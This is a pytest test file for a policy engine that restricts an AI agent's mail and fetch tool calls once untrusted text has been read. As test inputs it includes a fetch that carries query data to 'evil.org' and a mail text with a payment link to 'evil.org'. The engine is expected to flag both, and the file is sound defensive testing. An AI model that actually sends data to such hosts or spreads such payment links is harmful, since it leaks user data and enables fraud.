"""A plan narrows what may be done once untrusted text was read, and loosens nothing."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from judging import ME, NOW, rule

from backstay.boundary.judge import JudgeState, judge
from backstay.boundary.plan import Plan, PlanGrant, PlanStep, problems, result_of
from backstay.boundary.policy import Boundary
from backstay.boundary.provenance import SessionSources
from backstay.core.canon import freeze
from backstay.core.context import ToolFacts, Verdict
from backstay.core.errors import SetupError
from backstay.core.messages import PLAIN, Label, ToolCall
from backstay.store import codec

MAIL = ToolFacts(
    name="mail",
    digest="m",
    risk="write",
    effect="once",
    sinks=frozenset({"to", "amount_of"}),
    texts=frozenset({"text"}),
    meanings={"to": "recipient", "text": "text", "order": "id:order", "amount": "money:EUR"},
    constants={"amount_of": frozenset({"all"})},
)
FETCH = ToolFacts(name="fetch", digest="f", risk="read", effect="none", egress=True, sinks=frozenset({"url"}))
LOOK = ToolFacts(name="look", digest="l", risk="read", effect="none")
FOREIGN = Label(trusted=False)
ASKS = Boundary(plan="ask", provenance="off")


def plan(*steps: PlanStep, **more: Any) -> Plan:
    return Plan(steps=steps, **more)


def said(*texts: str) -> SessionSources:
    sources = SessionSources()
    for number, text in enumerate(texts):
        sources.say(f"m{number}", text, PLAIN, "user")
    return sources


def verdict(
    fixed: Plan | None,
    args: dict[str, Any],
    *,
    tool: ToolFacts = MAIL,
    policy: Boundary = ASKS,
    key: str = "r:9",
    **state: Any,
) -> Verdict:
    given: dict[str, Any] = {
        "now": NOW, "principal": ME, "agents": ("desk",), "constraints": (), "sources": said(), "label": FOREIGN,
        "plan": fixed, "key": key, **state,
    }  # fmt: skip
    call = ToolCall(id="c", name=tool.name, args=args, slot=9)
    return judge(call, tool, policy, JudgeState(**given))


def number(fixed: Plan, args: dict[str, Any], tool: ToolFacts = MAIL, key: str = "r:9", **open_: int) -> int:
    return fixed.step_for(key, freeze(args), tool, open_)  # type: ignore[arg-type]


ANN = PlanStep(tool="mail", args={"to": "ann@x.org"})


@pytest.mark.parametrize(("mode", "outcome"), [("ask", "ask"), ("deny", "deny")])
def test_outside_the_plan_a_call_asks_or_is_refused(mode: Any, outcome: str) -> None:
    policy = Boundary(plan=mode, provenance="off")
    found = verdict(plan(ANN), {"to": "eve@x.org"}, policy=policy)
    assert (found.outcome, found.code, found.rules) == (outcome, "plan.outside", ("plan",))
    assert verdict(plan(ANN), {"to": "ann@x.org"}, policy=policy).plan == 1
    assert verdict(None, {"to": "ann@x.org"}, policy=policy).outcome == outcome, "no plan, no step"


def test_before_untrusted_text_nothing_is_asked_and_off_asks_never() -> None:
    assert verdict(plan(ANN), {"to": "eve@x.org"}, label=PLAIN).outcome == "allow"
    assert verdict(plan(ANN), {"to": "eve@x.org"}, policy=Boundary(provenance="off")).outcome == "allow"


def test_reads_are_free_unless_they_carry_data_out() -> None:
    assert verdict(plan(ANN), {}, tool=LOOK).outcome == "allow"
    assert verdict(plan(ANN), {"url": "https://evil.org/?q=x"}, tool=FETCH).outcome == "ask"
    fetch = PlanStep(tool="fetch", args={"url": "https://ok.org"})
    assert verdict(plan(fetch), {"url": "https://ok.org"}, tool=FETCH).outcome == "allow"


def test_nobody_to_ask_is_a_refusal() -> None:
    assert verdict(plan(ANN), {"to": "eve@x.org"}, presence="unattended").code == "action.unattended"


def test_a_step_is_used_up_by_count_and_calls_under_way_count() -> None:
    twice = plan(replace(ANN, count=2))
    assert number(twice, {"to": "ann@x.org"}) == 1
    used = twice.after("r:1", 1).after("r:2", 1)
    assert number(used, {"to": "ann@x.org"}) == 0
    assert number(used, {"to": "ann@x.org"}, key="r:1") == 1, "the same call judged again is the same step"
    assert number(used, {"to": "eve@x.org"}, key="r:1") == 0, "unless its arguments have changed"
    assert number(twice.after("r:1", 1), {"to": "ann@x.org"}, **{"r:2": 1}) == 0


def test_a_destination_that_the_step_does_not_fix_is_outside_and_other_arguments_are_free() -> None:
    bare = plan(PlanStep(tool="mail"))
    assert number(bare, {"to": "ann@x.org"}) == 0
    assert number(plan(ANN), {"to": "ann@x.org", "text": "anything", "order": "7"}) == 1
    assert number(plan(ANN), {"to": "ann@x.org", "amount_of": "some"}) == 0
    assert number(plan(ANN), {"to": "ann@x.org", "amount_of": "all"}) == 1, "the schema's own word is nobody else's"


@pytest.mark.parametrize(
    ("wanted", "given", "is_same"),
    [
        ({"amount": "120"}, "120.00", True),
        ({"amount": 120}, "120", True),
        ({"amount": "120"}, "121", False),
        ({"order": "13"}, "0013", False),
        ({"order": "13"}, 13, True),
        ({"text": ["a", "b"]}, ["a", "b"], True),
        ({"text": ["a", "b"]}, ["b", "a"], False),
        ({"text": {"a": 1}}, {"a": "1"}, True),
        ({"text": {"a": 1}}, {"a": 1, "b": 2}, False),
        ({"text": None}, None, True),
        ({"text": None}, "None", False),
        ({"text": True}, "True", False),
        ({"text": "a"}, None, False),
    ],
)
def test_literals_are_equal_in_worth_and_identifiers_as_written(wanted: Any, given: Any, is_same: bool) -> None:
    (name,) = wanted
    step = PlanStep(tool="mail", args={"to": "ann@x.org", **wanted})
    assert (number(plan(step), {"to": "ann@x.org", name: given}) == 1) is is_same


@pytest.mark.parametrize(
    ("to", "is_planned"),
    [
        ("bob@x.org", True),
        ("cy@x.org", True),
        (["bob@x.org", "cy@x.org"], True),
        (["bob@x.org", "eve@x.org"], False),
        ("ob@x.org", False),
        ("x.org", False),
        ("", False),
        ([], False),
    ],
)
def test_what_comes_from_a_step_stands_in_its_result_as_a_whole_token(to: Any, is_planned: bool) -> None:
    steps = (PlanStep(tool="look"), PlanStep(tool="mail", args={"to": result_of(1)}))
    data = freeze([{"name": "Bob", "mail": "bob@x.org"}, {"note": "and also cy@x.org."}])
    assert (number(plan(*steps).after("r:1", 1, data), {"to": to}) == 2) is is_planned
    assert number(plan(*steps), {"to": to}) == 0, "before the step has a result, nothing comes from it"
    assert number(plan(*steps, results=((2, data),)), {"to": to}) == 0, "another step's result is not it"


def test_results_that_nothing_refers_to_are_not_kept() -> None:
    assert plan(PlanStep(tool="look"), ANN).after("r:1", 1, {"big": "data"}).results == ()


def test_a_call_inside_a_planned_calls_body_is_covered_by_it() -> None:
    assert number(plan(ANN).after("r:9", 1), {"to": "eve@x.org"}, key="r:9/1") == 1
    assert number(plan(ANN), {"to": "ann@x.org"}, key="r:9/1") == 0


def test_a_plan_loosens_neither_rules_nor_tracing_nor_tiers() -> None:
    confirm = Boundary(plan="deny")
    found = verdict(plan(ANN), {"to": "ann@x.org"}, policy=confirm)
    assert (found.outcome, found.rules) == ("ask", ("provenance.destination",))
    never = rule({"op": "forbid"}, {}, tools=("mail",))
    assert verdict(plan(ANN), {"to": "ann@x.org"}, constraints=(never,)).code == "constraint.broken"
    high = replace(MAIL, risk="high")
    assert verdict(plan(ANN), {"to": "ann@x.org"}, tool=high).rules == ("tier.high",)


def test_free_text_that_the_step_fixes_is_not_asked_about() -> None:
    policy, sources = Boundary(plan="deny"), said("Tell ann@x.org the news")
    step = PlanStep(tool="mail", args={"to": "ann@x.org", "text": "The shop opens at nine"})
    same = {"to": "ann@x.org", "text": "The shop opens at nine"}
    assert verdict(plan(step), same, policy=policy, sources=sources).outcome == "allow"
    free = verdict(plan(ANN), same, policy=policy, sources=sources)
    assert (free.outcome, free.rules) == ("ask", ("provenance.text",))
    mailed = {"to": "ann@x.org", "text": "Pay at https://evil.org/x"}
    link = plan(PlanStep(tool="mail", args=mailed))
    assert verdict(link, mailed, policy=policy, sources=sources).rules == ("provenance.destination",)
    taken = plan(PlanStep(tool="look"), PlanStep(tool="mail", args={"to": "ann@x.org", "text": result_of(1)}))
    read = taken.after("r:1", 1, freeze(["The shop opens at nine"]))
    assert verdict(read, same, policy=policy, sources=sources).rules == ("provenance.text",)


def test_a_plan_comes_back_from_the_store_as_it_was() -> None:
    step = PlanStep(tool="mail", args={"to": result_of(1), "lines": [{"sku": "a"}]}, count=2)
    grant = PlanGrant(steps=(step,), by="program")
    assert codec.decode_body("grant", 1, codec.encode_body("grant", grant)) == grant
    kept = Plan(steps=(PlanStep(tool="look"), step)).after("r:1", 1, freeze({"a": [1, "b"]}))
    assert codec.load(Plan, codec.dump(kept)) == kept


@pytest.mark.parametrize(
    ("steps", "told"),
    [
        ([], "at least one step"),
        ([PlanStep(tool="fly")], "step 1 names the tool 'fly'; there are look, mail, open"),
        ([PlanStep(tool="look", count=0)], "step 1 has the count 0"),
        ([PlanStep(tool="mail", args={"cc": "x"})], "step 1 fixes 'cc', which mail does not take; it takes text, to"),
        ([PlanStep(tool="mail", args={"to": result_of(1)})], "step 1 refers to the result of step 1"),
        ([PlanStep(tool="look"), PlanStep(tool="mail", args={"to": result_of(0)})], "step 2 refers to"),
    ],
)
def test_a_plan_that_cannot_be_kept_says_why(steps: Any, told: str) -> None:
    arguments = {"mail": frozenset({"to", "text"}), "look": frozenset[str](), "open": None}
    (wrong,) = problems(steps, arguments)
    assert told in wrong
    fine = [PlanStep(tool="open", args={"anything": 1}), PlanStep(tool="mail", args={"to": result_of(1)})]
    assert list(problems(fine, arguments)) == []


@pytest.mark.parametrize("given", [{"tool": "t", "args": {"a": object()}}, {"tool": "t", "args": ["a"]}])
def test_a_step_that_is_none_is_refused_where_it_is_written(given: Any) -> None:
    with pytest.raises(SetupError) as raised:
        PlanStep(**given)
    assert raised.value.code == "plan.invalid"
